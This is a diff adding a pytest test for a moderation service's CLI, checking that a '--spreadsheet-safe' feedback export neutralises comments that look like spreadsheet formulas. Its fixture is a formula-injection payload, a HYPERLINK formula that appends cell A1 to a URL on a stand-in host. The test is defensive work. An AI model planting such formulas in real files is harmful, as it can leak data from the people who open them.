@@ -796,6 +796,26 @@ def test_feedback_export_writes_the_table(runner, db_env, tmp_path, tiny_bundle_
     assert [(row["comment_id"], row["text"], row["decision"], row["insult"]) for row in table] == [("c1", HOSTILE, "reject", 1.0), ("c2", None, "approve", None)]
 
 
+def test_feedback_export_spreadsheet_safe_marks_a_formula_comment(runner, db_env, tmp_path, tiny_bundle_path, monkeypatch):
+    # A commenter's text decided on the moderation page lands in the export: opened in a spreadsheet (to sort it, as
+    # README suggests) it ran as a formula, and export had no --spreadsheet-safe as `moderate score` has.
+    from service.app import create_app
+
+    monkeypatch.setenv("MODERATION_DB_URL", db_env["MODERATION_DB_URL"])
+    client = create_app({"TESTING": True, "MODEL": str(tiny_bundle_path), "AUTH_REQUIRED": False}).test_client()
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    assert client.post("/v1/feedback", json={"comment_id": "f1", "text": formula, "decision": "reject"}).status_code == 201
+    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
+    assert runner.invoke(cli, ["feedback", "export", "-o", str(exact)], env=db_env).exit_code == 0
+    result = runner.invoke(cli, ["feedback", "export", "-o", str(safe), "--spreadsheet-safe"], env=db_env)
+    assert result.exit_code == 0, result.output
+    assert pd.read_csv(exact, keep_default_na=False)["text"].tolist() == [formula]  # for training: exactly as sent
+    assert safe.read_text(encoding="utf-8").startswith("\ufeff")
+    assert pd.read_csv(safe, keep_default_na=False, encoding="utf-8-sig")["text"].tolist() == ["'" + formula]
+    parquet = runner.invoke(cli, ["feedback", "export", "-o", str(tmp_path / "x.parquet"), "--spreadsheet-safe"], env=db_env)
+    assert_one_line_error(parquet, r"spreadsheet-safe cells are for a \.csv output")
+
+
 @pytest.mark.parametrize("overwrite", [[], ["--overwrite"]])
 def test_feedback_export_to_a_folder_is_exit_2_and_leaves_nothing(runner, db_env, tmp_path, overwrite):
     """-o naming a folder: a traceback from os.replace (with --overwrite) after the whole table was written beside it."""
